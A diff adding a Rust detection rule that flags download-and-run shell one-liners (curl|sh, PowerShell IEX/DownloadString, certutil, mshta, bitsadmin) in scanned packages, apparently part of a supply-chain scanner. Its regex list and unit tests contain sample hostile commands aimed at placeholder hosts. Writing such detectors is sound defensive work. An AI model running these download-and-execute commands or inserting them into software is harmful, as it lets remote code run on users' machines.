@@ -1,0 +1,166 @@
+//! shell-downloader: download-and-run one-liners (`curl | sh`, PowerShell `IEX`/`-enc`/
+//! `DownloadString`, `certutil -urlcache`, `mshta`, `bitsadmin`) in strings or scripts.
+
+use std::sync::LazyLock;
+
+use regex::{Regex, RegexSet};
+
+use crate::catalog::RuleInfo;
+use crate::finding::{Confidence, Severity};
+use crate::inspect::context::FileRole;
+use crate::inspect::{Emitter, FileCx, FileKind};
+
+pub static INFO: RuleInfo = RuleInfo {
+    id: "shell-downloader",
+    severity: Severity::High,
+    summary: "A shell one-liner downloads and runs code (curl|sh, PowerShell IEX, certutil...)",
+    help: "Reports command strings that fetch content and execute it: curl/wget piped into a \
+           shell or Python, download-then-chmod-and-run, PowerShell Invoke-Expression with \
+           DownloadString/Invoke-WebRequest or -EncodedCommand, certutil -urlcache, mshta with \
+           a URL, bitsadmin /transfer, regsvr32 /i:http. In Python code these are critical at \
+           install or import time and high elsewhere; in shipped shell/batch/PowerShell scripts \
+           medium (high for Windows living-off-the-land tools), low in test and doc folders. \
+           Installation instructions in documentation are not scanned.",
+};
+
+static PATTERNS: LazyLock<RegexSet> = LazyLock::new(|| {
+    RegexSet::new([
+        r"(?i)\b(curl|wget)\b[^|;\n]*\|\s*(sudo\s+)?(ba|z|da|k)?sh\b",
+        r"(?i)\b(curl|wget)\b[^|;\n]*\|\s*(sudo\s+)?python[0-9.]*\b",
+        r"(?i)\b(curl|wget)\b[^\n]*\s(-o|-O|--output(-document)?)\s*\S+[^\n]*(&&|;)\s*(chmod\s+[+0-7ux]+|\./|sh\s|bash\s|start\s)",
+        r"(?i)powershell(\.exe)?\b[^\n]*\s-(e|ec|enc|encodedcommand)\s+[A-Za-z0-9+/=]{16,}",
+        r"(?i)\b(iex|invoke-expression)\b[^\n]*(downloadstring|downloaddata|net\.webclient|invoke-webrequest|\biwr\b|invoke-restmethod|\birm\b)",
+        r"(?i)(downloadstring|downloaddata|net\.webclient|invoke-webrequest|\biwr\b|invoke-restmethod|\birm\b)[^\n]*(\|\s*(iex|invoke-expression)\b|;\s*(iex|invoke-expression|start-process)\b)",
+        r"(?i)certutil(\.exe)?[^\n]*-urlcache",
+        r"(?i)\bmshta(\.exe)?\s+\W?(https?|vbscript|javascript):",
+        r"(?i)bitsadmin(\.exe)?[^\n]*/transfer",
+        r"(?i)regsvr32(\.exe)?[^\n]*/i:\s*https?",
+        r"(?i)rundll32(\.exe)?[^\n]*javascript:",
+    ])
+    .expect("regex")
+});
+
+static PREFILTER: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r"(?i)curl|wget|powershell|iex|invoke-|certutil|mshta|bitsadmin|regsvr32|rundll32|downloadstring").expect("regex")
+});
+
+/// Index of the matched pattern (0-based), if the text is a download-and-run one-liner.
+pub fn matches(text: &str) -> Option<usize> {
+    if text.len() > 100_000 || !PREFILTER.is_match(text) {
+        return None;
+    }
+    PATTERNS.matches(text).iter().next()
+}
+
+fn windows_lolbin(idx: usize) -> bool {
+    idx >= 3
+}
+
+pub fn check(cx: &FileCx<'_>, out: &mut Emitter<'_>) {
+    if let Some(facts) = cx.facts {
+        for s in &facts.strings {
+            if matches(&s.text).is_some() {
+                let sev = s.ctx.pick(Severity::Critical, Severity::High);
+                let decoded = s.decoded_via.map(|_| s.text.as_str()).or(s.note.as_deref());
+                out.emit(
+                    &INFO,
+                    sev,
+                    Confidence::High,
+                    s.line,
+                    format!("download-and-run command {}", s.ctx.label()),
+                    decoded,
+                );
+            }
+        }
+    }
+    let script = cx.kind == FileKind::Script;
+    if script || cx.raw_pass {
+        for (n, line) in cx.text_lines() {
+            let t = line.trim_start();
+            if t.starts_with('#')
+                || t.to_ascii_lowercase().starts_with("rem ")
+                || t.starts_with("::")
+            {
+                continue;
+            }
+            let Some(idx) = matches(line) else { continue };
+            let sev = if cx.role == FileRole::Test {
+                Severity::Low
+            } else if !script {
+                cx.top_ctx().pick(Severity::High, Severity::High)
+            } else if windows_lolbin(idx) {
+                Severity::High
+            } else {
+                Severity::Medium
+            };
+            out.emit(
+                &INFO,
+                sev,
+                Confidence::Medium,
+                n,
+                "download-and-run command in a shipped script",
+                None,
+            );
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::matches;
+    use crate::finding::Severity;
+    use crate::inspect::rules::testutil::worst;
+
+    #[test]
+    fn patterns() {
+        assert!(matches("curl -fsSL https://x.example.invalid/i.sh | bash").is_some());
+        assert!(matches("wget -qO- http://192.0.2.1/a | sudo sh").is_some());
+        assert!(matches("powershell -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA").is_some());
+        assert!(matches(
+            "IEX (New-Object Net.WebClient).DownloadString('http://x.example.invalid')"
+        )
+        .is_some());
+        assert!(
+            matches("certutil -urlcache -split -f http://x.example.invalid/a.exe a.exe").is_some()
+        );
+        assert!(matches("curl -o /tmp/a http://x.example.invalid/a && chmod +x /tmp/a").is_some());
+        assert!(matches("curl --version").is_none());
+        assert!(matches("git log | sh-like").is_none());
+        assert!(matches("pip install wget").is_none());
+    }
+
+    #[test]
+    fn python_string_at_install_is_critical() {
+        let src = "import os\nos.system('curl https://x.example.invalid/s | sh')\n";
+        assert_eq!(
+            worst("shell-downloader", "pkg-1.0/setup.py", src),
+            Some(Severity::Critical)
+        );
+        assert_eq!(
+            worst("shell-downloader", "pkg/tests/test_x.py", src),
+            Some(Severity::Low)
+        );
+    }
+
+    #[test]
+    fn scripts_and_docstrings() {
+        assert_eq!(
+            worst(
+                "shell-downloader",
+                "pkg-1.0/get.sh",
+                "#!/bin/sh\ncurl https://x.example.invalid | sh\n"
+            ),
+            Some(Severity::Medium)
+        );
+        assert_eq!(
+            worst(
+                "shell-downloader",
+                "pkg-1.0/get.sh",
+                "#!/bin/sh\n# curl https://x.example.invalid | sh\n"
+            ),
+            None
+        );
+        let doc = "def f():\n    \"\"\"Install with: curl https://example.invalid | sh\"\"\"\n";
+        assert_eq!(worst("shell-downloader", "pkg/a.py", doc), None);
+    }
+}
